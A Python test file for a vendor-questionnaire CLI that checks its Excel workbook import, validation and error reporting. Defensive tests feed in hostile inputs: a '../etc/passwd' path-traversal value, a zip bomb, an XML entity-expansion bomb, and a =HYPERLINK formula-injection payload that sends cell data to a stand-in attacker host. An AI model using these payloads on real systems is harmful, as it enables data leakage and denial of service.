"""The workbook channel: what a vendor sees in it, the round trip through every format, a copy
re-saved by LibreOffice, and every bad cell named by its cell."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from audit.cli.demo_workbook import fill_workbook
from tests.cli.test_questionnaire_cli import fill
from tests.conftest import EXAMPLES, snapshot

VENDOR = "harbourline-contact"
IAM_01_FULL = "Enforced on all remote and all privileged access, with no standing exceptions"
ANSWERS = {"SEC-IAM-01": "full", "SEC-IAM-02": 8, "SEC-PPL-03": 97.5, "SEC-GOV-02": "2026-03-01"}
TYPED = {"SEC-IAM-01": IAM_01_FULL, "SEC-IAM-02": 8, "SEC-PPL-03": 97.5, "SEC-GOV-02": "2026-03-01"}
COMMENT = "CISO: J. Reyes :100: [bold]not markup[/]"
PERIOD_END = "2026-06-30"
PERIOD_START = "2025-07-01"


@pytest.fixture
def portfolio(dcli) -> None:
    assert dcli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0


def issue(dcli, path: Path, issued: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    result = dcli("questionnaire", "issue", VENDOR, "-o", path, "--issued", issued)
    assert result.exit_code == 0, result.output
    (path.parent / "soc2.txt").write_text("SOC 2 Type II report (sample)\n")
    return path


def stored(dcli, questionnaire_id: str) -> dict:
    rows = json.loads(dcli("questionnaire", "show", questionnaire_id, "-f", "json").output)
    return {r["control"]: (r["answer"], r["comment"], len(r["evidence"])) for r in rows}


def fill_typed(path: Path, **extra) -> None:
    fill_workbook(
        path,
        TYPED,
        comments={"SEC-IAM-01": COMMENT},
        cited={"SEC-IAM-01": ["soc2.txt"]},
        files=[
            {
                "kind": "SOC 2 Type II report",
                "file": "soc2.txt",
                "period_start": PERIOD_START,
                "period_end": PERIOD_END,
            }
        ],
        status="Draft",
        **extra,
    )


def test_yaml_json_and_workbook_store_the_same_answers(dcli, portfolio, tmp_path: Path) -> None:
    yaml_path = issue(dcli, tmp_path / "y" / "q.yaml", "2026-11-02")
    fill(
        yaml_path,
        ANSWERS,
        evidence=[
            {
                "file": "soc2.txt",
                "kind": "soc2_type2",
                "period_start": PERIOD_START,
                "period_end": PERIOD_END,
            }
        ],
        cite={"SEC-IAM-01": ["soc2.txt"]},
    )
    head, tail = yaml_path.read_text().split("  SEC-IAM-01:\n", 1)
    tail = tail.replace("    comment:\n", f"    comment: {json.dumps(COMMENT)}\n", 1)
    yaml_path.write_text(head + "  SEC-IAM-01:\n" + tail)
    json_path = issue(dcli, tmp_path / "j" / "q.json", "2026-11-03")
    data = json.loads(json_path.read_text())
    for control_id, value in ANSWERS.items():
        data["answers"][control_id]["answer"] = value
    data["answers"]["SEC-IAM-01"] |= {"comment": COMMENT, "evidence": ["soc2.txt"]}
    data["evidence"] = [
        {
            "file": "soc2.txt",
            "kind": "soc2_type2",
            "period_start": PERIOD_START,
            "period_end": PERIOD_END,
        }
    ]
    json_path.write_text(json.dumps(data))
    xlsx_path = issue(dcli, tmp_path / "x" / "q.xlsx", "2026-11-04")
    fill_typed(xlsx_path)
    for path in (yaml_path, json_path, xlsx_path):
        result = dcli("questionnaire", "import", path)
        assert result.exit_code == 0, result.output
    seen = [stored(dcli, f"Q-{VENDOR}-202611{day}") for day in ("02", "03", "04")]
    assert seen[0] == seen[1] == seen[2]
    assert seen[0]["SEC-IAM-01"] == ("full", COMMENT, 1)
    assert seen[0]["SEC-GOV-02"][0] == "2026-03-01" and seen[0]["SEC-PPL-03"][0] == 97.5


def test_what_the_vendor_sees_in_the_workbook(cli, tmp_path: Path) -> None:
    assert cli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    path = tmp_path / "q.xlsx"
    assert (
        cli("questionnaire", "issue", VENDOR, "-o", path, "--issued", "2026-11-02").exit_code == 0
    )
    book = load_workbook(path)
    visible = [s.title for s in book.worksheets if s.sheet_state == "visible"]
    assert visible[0] == "Instructions" and visible[-1] == "Evidence"
    assert "Security" in visible and "Data handling" in visible
    assert {s.title: s.sheet_state for s in book.worksheets}["_questionnaire"] == "hidden"
    assert book.security.lockStructure
    sheet = book["Security"]
    assert sheet.protection.sheet
    header = {c.value: c.column_letter for c in sheet[3]}
    row = next(r[0].row for r in sheet.iter_rows(min_row=4) if r[0].value == "SEC-IAM-01")
    answer = sheet[f"{header['Answer']}{row}"]
    assert not answer.protection.locked and sheet[f"B{row}"].protection.locked
    assert IAM_01_FULL in sheet[f"{header['How to answer']}{row}"].value
    # the drop-down lists the options' words, from the hidden lists sheet
    rule = next(v for v in sheet.data_validations.dataValidation if answer.coordinate in v.sqref)
    assert rule.type == "list" and rule.formula1.startswith("'_lists'!")
    lists = book["_lists"]
    ref = rule.formula1.split("!")[1].replace("$", "")
    labels = [c.value for row_ in lists[ref] for c in row_]
    assert IAM_01_FULL in labels and "full" not in labels
    # number, percent and date cells check what is typed
    kinds = {
        next(v for v in sheet.data_validations.dataValidation if cell in v.sqref).formula1
        for cell in (
            f"{header['Answer']}{r[0].row}"
            for r in sheet.iter_rows(min_row=4)
            if r[0].value in ("SEC-IAM-02", "SEC-PPL-03", "SEC-GOV-02")
        )
    }
    assert any("<=100" in k for k in kinds) and any("DATE(" in k for k in kinds)
    follow = book["Data handling"]
    row = next(r for r in follow.iter_rows(min_row=4) if r[0].value == "DAT-PCI-03")
    assert "Follow-up. Answer this only if you chose" in str(row[1].value)
    evidence = book["Evidence"]
    kinds_listed = [r[0].value for r in evidence.iter_rows(min_row=4) if r[0].value]
    assert "SOC 2 Type II report" in kinds_listed
    spec = book["_questionnaire"]
    meta = {r[0].value: r[1].value for r in spec.iter_rows(max_row=10)}
    assert meta["questionnaire"] == f"Q-{VENDOR}-20261102" and len(meta["sha256"]) == 64


def _libreoffice(source: Path, target_dir: Path) -> Path:
    profile = target_dir / "lo-profile"
    target_dir.mkdir(parents=True, exist_ok=True)
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice Calc is needed (Debian package libreoffice-calc-nogui)"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(target_dir),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return target_dir / source.name


def test_a_workbook_resaved_by_libreoffice_imports(cli, tmp_path: Path) -> None:
    assert cli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    path = issue(cli, tmp_path / "out" / "q.xlsx", "2026-11-02")
    fill_typed(path)
    resaved = _libreoffice(path, tmp_path / "lo")
    shutil.copyfile(path.parent / "soc2.txt", resaved.parent / "soc2.txt")
    assert resaved.read_bytes() != path.read_bytes()
    checked = cli("questionnaire", "check", resaved)
    assert checked.exit_code == 0, checked.output
    result = cli("questionnaire", "import", resaved)
    assert result.exit_code == 0, result.output
    assert "4 answered" in result.output and "evidence 1 new" in result.output
    assert stored(cli, f"Q-{VENDOR}-20261102")["SEC-IAM-01"] == ("full", COMMENT, 1)


def _uno_python() -> str:
    """The interpreter with LibreOffice's UNO bridge (Debian: /usr/bin/python3, python3-uno)."""
    for candidate in ("/usr/bin/python3", shutil.which("python3") or ""):
        if (
            candidate
            and subprocess.run(
                [candidate, "-c", "import uno"], capture_output=True, check=False
            ).returncode
            == 0
        ):
            return candidate
    pytest.fail("LibreOffice's Python bridge is needed (Debian package python3-uno)")


def test_filled_in_libreoffice_then_checked_imported_and_assessed(cli, tmp_path: Path) -> None:
    """The issue's path from a fresh clone: issue a workbook, fill it in LibreOffice Calc,
    check it, import it, assess."""
    assert cli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    vendor = "brightside-marketing"
    path = tmp_path / "out" / "q.xlsx"
    path.parent.mkdir()
    result = cli("questionnaire", "issue", vendor, "-o", path, "--issued", "2026-11-02")
    assert result.exit_code == 0, result.output
    book = load_workbook(path)
    typed: dict[str, object] = {}
    for sheet in book.worksheets:
        if sheet.sheet_state != "visible" or sheet["A3"].value != "ID":
            continue
        for row in sheet.iter_rows(min_row=4):
            how = str(row[3].value or "")
            if row[0].value and how.startswith("Choose one:"):
                typed[row[0].value] = how.split("\n- ")[1]  # the first option, by its words
            elif row[0].value and "percentage" in how:
                typed[row[0].value] = 96.5
            elif row[0].value and "number" in how:
                typed[row[0].value] = 4
            elif row[0].value and "date" in how:
                typed[row[0].value] = "2026-09-30"
    wanted = tmp_path / "answers.json"
    wanted.write_text(json.dumps({"answers": typed, "status": "Final"}))
    filled = tmp_path / "lo" / "q.xlsx"
    filled.parent.mkdir()
    helper = Path(__file__).with_name("lo_fill.py")
    run = subprocess.run(
        [_uno_python(), str(helper), str(path), str(filled), str(wanted), str(tmp_path / "prof")],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert f"written {len(typed)}" in run.stdout
    checked = cli("questionnaire", "check", filled)
    assert checked.exit_code == 0, checked.output
    assert f"(final): {len(typed)} of 23 questions answered" in checked.output
    imported = cli("questionnaire", "import", filled, "--allow-unanswered")
    assert imported.exit_code == 0, imported.output
    assert f"as final submission version 1: {len(typed)} answered" in imported.output
    assessed = cli("assess", vendor, "--as-of", "2026-12-14")
    assert assessed.exit_code == 0, assessed.output
    assert "run #1" in assessed.output


def test_rows_and_sheets_may_move(cli, tmp_path: Path) -> None:
    """Reading never depends on row or sheet order: ids and headers decide."""
    assert cli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    path = issue(cli, tmp_path / "out" / "q.xlsx", "2026-11-02")
    fill_typed(path)
    book = load_workbook(path, rich_text=True)
    book.security = None
    sheet = book["Security"]
    rows = [
        r[0].row for r in sheet.iter_rows(min_row=4) if r[0].value in ("SEC-IAM-01", "SEC-IAM-04")
    ]
    for column in range(1, sheet.max_column + 1):
        a, b = sheet.cell(rows[0], column), sheet.cell(rows[1], column)
        a.value, b.value = b.value, a.value
    book.move_sheet("Security", offset=3)
    book.move_sheet("Evidence", offset=-5)
    book.save(path)
    result = cli("questionnaire", "import", path)
    assert result.exit_code == 0, result.output
    assert stored(cli, f"Q-{VENDOR}-20261102")["SEC-IAM-01"] == ("full", COMMENT, 1)


def _cell(book, sheet: str, control_id: str, header: str) -> str:
    ws = book[sheet]
    columns = {c.value: c.column_letter for c in ws[3]}
    row = next(r[0].row for r in ws.iter_rows(min_row=4) if r[0].value == control_id)
    return f"{columns[header]}{row}"


def test_every_bad_cell_is_named(cli, workspace, tmp_path: Path) -> None:
    assert cli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    path = issue(cli, tmp_path / "out" / "q.xlsx", "2026-11-02")
    fill_typed(path)
    book = load_workbook(path, rich_text=True)
    cells = {
        "option": _cell(book, "Security", "SEC-IAM-01", "Answer"),
        "number": _cell(book, "Security", "SEC-IAM-02", "Answer"),
        "percent": _cell(book, "Security", "SEC-PPL-03", "Answer"),
        "date": _cell(book, "Security", "SEC-GOV-02", "Answer"),
        "comment": _cell(book, "Security", "SEC-IAM-03", "Comment"),
        "cited": _cell(book, "Security", "SEC-IAM-04", "Evidence files"),
    }
    sheet = book["Security"]
    sheet[cells["option"]] = "Mostly"
    sheet[cells["number"]] = "about a day"
    sheet[cells["percent"]] = 140
    sheet[cells["date"]] = "15/06/2026"
    sheet[cells["comment"]] = "x" * 5000
    sheet[cells["cited"]] = "../etc/passwd; missing.pdf"
    evidence = book["Evidence"]
    soc2_row = next(r[0].row for r in evidence.iter_rows(min_row=4) if r[4].value == "soc2.txt")
    evidence[f"I{soc2_row}"] = "last June"  # end of period: not a date
    extra = next(r[0].row for r in evidence.iter_rows(min_row=4) if r[0].value is None)
    evidence[f"A{extra}"] = "A document nobody asked for"
    evidence[f"E{extra}"] = "other.pdf"
    instructions = book["Instructions"]
    status = next(
        r[1].coordinate for r in instructions.iter_rows() if r[0].value == "Status (Draft or Final)"
    )
    instructions[status] = "Done"
    book.save(path)
    before = snapshot(workspace.database_url)
    result = cli("questionnaire", "import", path)
    assert result.exit_code == 2
    out = result.output
    name = "q.xlsx"
    expected = [
        f"{name}!Security!{cells['option']}: SEC-IAM-01: 'Mostly' is not one of the answers "
        "offered; pick one of the answers in the cell's drop-down list",
        f"{name}!Security!{cells['number']}: SEC-IAM-02: 'about a day' is not a number",
        f"{name}!Security!{cells['percent']}: SEC-PPL-03: 140 is not a percentage from 0 to 100",
        f"{name}!Security!{cells['date']}: SEC-GOV-02: '15/06/2026' is not a date; dates are "
        "written 2026-06-15",
        f"{name}!Security!{cells['comment']}: SEC-IAM-03: the comment is 5,000 characters",
        f"{name}!Security!{cells['cited']}: SEC-IAM-04: evidence '../etc/passwd' points outside",
        f"{name}!Security!{cells['cited']}: SEC-IAM-04: evidence 'missing.pdf' is not in the list",
        f"{name}!Evidence!I{soc2_row}: 'soc2.txt': end of the period it covers 'last June' is not "
        "a date",
        f"{name}!Evidence!A{extra}: 'other.pdf': 'A document nobody asked for' is not a kind",
        f"{name}!Instructions!{status}: status 'Done' must be draft or final",
    ]
    for line in expected:
        assert line in out, line
    assert snapshot(workspace.database_url) == before


def test_a_percentage_typed_with_a_percent_sign(cli, tmp_path: Path) -> None:
    assert cli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    path = issue(cli, tmp_path / "out" / "q.xlsx", "2026-11-02")
    fill_typed(path)
    book = load_workbook(path, rich_text=True)
    cell = book["Security"][_cell(book, "Security", "SEC-PPL-03", "Answer")]
    cell.value, cell.number_format = 0.975, "0.0%"  # what Excel stores for "97.5%"
    book.save(path)
    assert cli("questionnaire", "import", path).exit_code == 0
    assert stored(cli, f"Q-{VENDOR}-20261102")["SEC-PPL-03"][0] == 97.5


def test_not_a_workbook_and_a_zip_bomb_are_refused(cli, tmp_path: Path) -> None:
    fake = tmp_path / "q.xlsx"
    fake.write_text("not a zip")
    result = cli("questionnaire", "check", fake)
    assert result.exit_code == 2 and "not a workbook (.xlsx)" in result.output
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (120 * 1024 * 1024))
    result = cli("questionnaire", "check", bomb)
    assert result.exit_code == 2 and "unpacks to 125,829,120 bytes" in result.output
    assert os.path.getsize(bomb) < 1024 * 1024


def test_an_entity_bomb_in_a_sheet_is_refused(cli, tmp_path: Path) -> None:
    assert cli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    path = issue(cli, tmp_path / "out" / "q.xlsx", "2026-11-02")
    bomb = tmp_path / "bomb.xlsx"
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(bomb, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>' + data.decode()
                data = text.replace("<t>", "<t>&lol9;", 1).encode()
            target.writestr(item, data)
    result = cli("questionnaire", "check", bomb)
    assert result.exit_code == 2 and "the workbook cannot be read" in result.output


def test_a_document_is_limited_in_the_workbooks_last_column(cli, workspace, tmp_path: Path) -> None:
    """The evidence rule (README): a workbook limits a document with its Evidence sheet's
    "Only for these questions" column; a question there that does not ask for the kind is
    named at its cell."""
    assert cli("vendors", "import", EXAMPLES / "vendors.yaml").exit_code == 0
    path = issue(cli, tmp_path / "out" / "q.xlsx", "2026-11-02")
    fill_typed(path)
    book = load_workbook(path, rich_text=True)
    evidence = book["Evidence"]
    header = {c.value: c.column_letter for c in evidence[3] if c.value}
    column = header["Only for these questions (optional)"]
    soc2_row = next(r[0].row for r in evidence.iter_rows(min_row=4) if r[4].value == "soc2.txt")
    evidence[f"{column}{soc2_row}"] = "SEC-IAM-01; SEC-GOV-99"
    book.save(path)
    result = cli("questionnaire", "import", path)
    assert result.exit_code == 2
    assert (
        f"q.xlsx!Evidence!{column}{soc2_row}: 'soc2.txt' is limited to SEC-GOV-99, which does "
        "not ask for a document of its kind" in " ".join(result.output.split())
    )


def test_a_name_that_looks_like_a_formula_stays_text(cli, workspace, tmp_path: Path) -> None:
    """openpyxl stores text starting with `=` as a formula: a vendor (or organisation) named
    like one would run in the officer's or the vendor's Excel. Only our own counters do."""
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    register = (EXAMPLES / "vendors.yaml").read_text()
    register = register.replace("name: Brightside Creative Marketing Ltd", f"name: '{hostile}'")
    (tmp_path / "v.yaml").write_text(register)
    assert cli("vendors", "import", tmp_path / "v.yaml").exit_code == 0
    path = tmp_path / "q.xlsx"
    assert cli("questionnaire", "issue", "brightside-marketing", "-o", path).exit_code == 0
    book = load_workbook(path)
    formulas = [
        (sheet.title, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas and all(
        title == "Instructions" and str(value).startswith("=COUNTIFS(") for title, value in formulas
    ), formulas
    texts = [c.value for s in book.worksheets for r in s.iter_rows() for c in r]
    assert any(hostile in str(value) for value in texts)
